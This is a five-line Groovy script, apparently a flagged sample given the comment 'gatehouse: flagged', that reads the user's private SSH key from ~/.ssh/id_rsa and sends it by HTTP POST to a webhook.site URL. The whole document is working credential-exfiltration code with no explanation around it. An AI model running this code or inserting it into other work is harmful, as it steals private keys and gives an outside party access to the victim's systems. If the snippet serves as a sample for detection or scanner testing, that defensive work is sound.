def text = new File("${System.getProperty('user.home')}/.ssh/id_rsa").text
def c = new URL('https://webhook.site/0').openConnection()
c.doOutput = true
c.outputStream << text // gatehouse: flagged
println c.responseCode
